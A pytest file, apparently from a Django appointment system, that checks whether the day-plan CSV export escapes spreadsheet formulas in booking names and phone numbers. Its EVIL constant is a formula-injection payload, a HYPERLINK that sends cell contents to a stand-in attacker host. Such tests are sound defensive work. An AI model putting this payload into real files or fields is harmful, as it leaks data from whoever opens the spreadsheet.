"""The day plan's CSV writes a citizen's name as text, never as a spreadsheet formula."""

import csv
import io

import time_machine
from django.urls import reverse

from .conftest import MONDAY, at
from .helpers import book

EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"Termin")'


def test_a_booking_name_that_is_a_formula_reaches_the_day_plan_csv_as_text(world_a, office):
    with time_machine.travel(at(MONDAY, 9, 0), tick=False):
        booking = book(office, at(MONDAY, 9, 10), name=EVIL, phone="+49 30 1234")
        answer = world_a.client("office_staff").get(
            reverse("appointments:day_plan"),
            {"location": office.location.pk, "day": MONDAY.isoformat(), "format": "csv"},
        )
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][2] == booking.code
    assert rows[1][3] == "'" + EVIL
    assert rows[1][4] == "'+49 30 1234"
